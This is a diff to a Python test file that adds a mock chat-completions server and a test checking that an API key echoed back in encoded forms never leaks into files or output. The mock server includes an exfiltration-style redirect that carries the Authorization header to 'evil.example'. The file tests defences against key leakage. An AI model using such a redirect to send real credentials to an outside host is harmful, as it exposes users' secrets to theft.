@@ -3,14 +3,19 @@
 from __future__ import annotations
 
 import asyncio
+import base64
+import binascii
+import contextlib
 import json
 import os
+import re
 import subprocess
 import sys
 import threading
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from urllib.parse import unquote_to_bytes
 
 from aiohttp import web
 from study_helpers import write_study
@@ -62,6 +67,28 @@ def _run_study(tmp_path: Path, base_url: str, key: str) -> subprocess.CompletedP
         text=True,
         timeout=300,
     )
+
+
+@contextmanager
+def serving(chat: Callable) -> Iterator[str]:
+    """``chat`` as the chat completions route of a server on a local port."""
+    app = web.Application()
+    app.router.add_post("/v1/chat/completions", chat)
+    runner = web.AppRunner(app, access_log=None)
+    loop = asyncio.new_event_loop()
+    loop.run_until_complete(runner.setup())
+    site = web.TCPSite(runner, "127.0.0.1", 0)
+    loop.run_until_complete(site.start())
+    port = runner.addresses[0][1]
+    thread = threading.Thread(target=loop.run_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{port}/v1"
+    finally:
+        loop.call_soon_threadsafe(loop.stop)
+        thread.join(10)
+        loop.run_until_complete(runner.cleanup())
+        loop.close()
 
 
 @contextmanager
@@ -167,3 +194,67 @@ def _fails_before_any_call(tmp_path: Path, named: str, env: dict[str, str]) -> s
     assert named in run.stderr and run.stderr.count("\n") == 1
     assert not (tmp_path / "run").exists()
     return run.stderr
+
+
+ENCODED_SECRET = "sk-or-v1-Enc0ded+Key/7f3a9c2e1b0d4f6a8c5e_Zq-91xW"
+
+
+def _percent(text: str) -> str:
+    return "".join(f"%{b:02X}" for b in text.encode())
+
+
+def _json_escaped(text: str) -> str:
+    return "".join(f"\\u{ord(c):04x}" for c in text)
+
+
+def _decoded_fragments(data: bytes, key: str) -> list[str]:
+    """The key's 8-character pieces in ``data``, raw or percent-, JSON- or base64-decoded."""
+    views = [data, unquote_to_bytes(data)]
+    text = data.decode("latin-1")
+    views.append(re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), text).encode())
+    for run in re.findall(rb"[A-Za-z0-9+/_-]{11,}", data):
+        for skip in range(4):
+            part = run[skip:]
+            part = part[: len(part) - len(part) % 4]
+            for decode in (base64.b64decode, base64.urlsafe_b64decode):
+                with contextlib.suppress(binascii.Error, ValueError):
+                    views.append(decode(part))
+    pieces = {f.decode() for f in _key_fragments(key)}
+    return sorted({p for p in pieces for view in views if p.encode() in view})
+
+
+def test_a_key_echoed_encoded_in_every_way_leaves_no_piece_raw_or_decoded(tmp_path: Path) -> None:
+    """URL-encoded, base64, JSON-escaped, in finish_reason, in usage and in a redirect's Location:
+    no 8-character piece of the key in any file or output, even once decoded."""
+
+    async def chat(request: web.Request) -> web.Response:
+        header = request.headers.get("Authorization", "")
+        body = await request.json()
+        if "Party A" in json.dumps(body.get("messages")):
+            raise web.HTTPFound("https://evil.example/v1?auth=" + _percent(header))
+        answer = polistemic_responder(body)
+        if not answer.lstrip().startswith(("{", "[")):  # JSON answers must stay parseable
+            answer += (
+                f" url {_percent(header)} b64 {base64.b64encode(header.encode()).decode()}"
+                f" json {_json_escaped(header)}"
+            )
+        reply = completion_body(body, completion_id="echo", content=answer)
+        reply["choices"][0]["finish_reason"] = header
+        reply["usage"] = {"prompt_tokens": header, "completion_tokens": 3, "cost": float("nan")}
+        return web.Response(text=json.dumps(reply), content_type="application/json")
+
+    with serving(chat) as base_url:
+        run = _run_study(tmp_path, base_url, ENCODED_SECRET)
+    assert run.returncode == 0, run.stderr
+    files = [p for p in tmp_path.rglob("*") if p.is_file()]
+    assert any(p.name == "report.html" for p in files)
+    assert any(p.name == "outputs.jsonl" for p in files)
+    leaks = [
+        (str(path.relative_to(tmp_path)), piece)
+        for path in files
+        for piece in _decoded_fragments(path.read_bytes(), ENCODED_SECRET)
+    ]
+    assert leaks == []
+    assert _decoded_fragments((run.stdout + run.stderr).encode(), ENCODED_SECRET) == []
+    stored = "".join(p.read_text() for p in (tmp_path / "run").rglob("*.jsonl"))
+    assert re.search(r"redirected to https://evil\.example/v1\?auth=\S*\[redacted\]: use", stored)
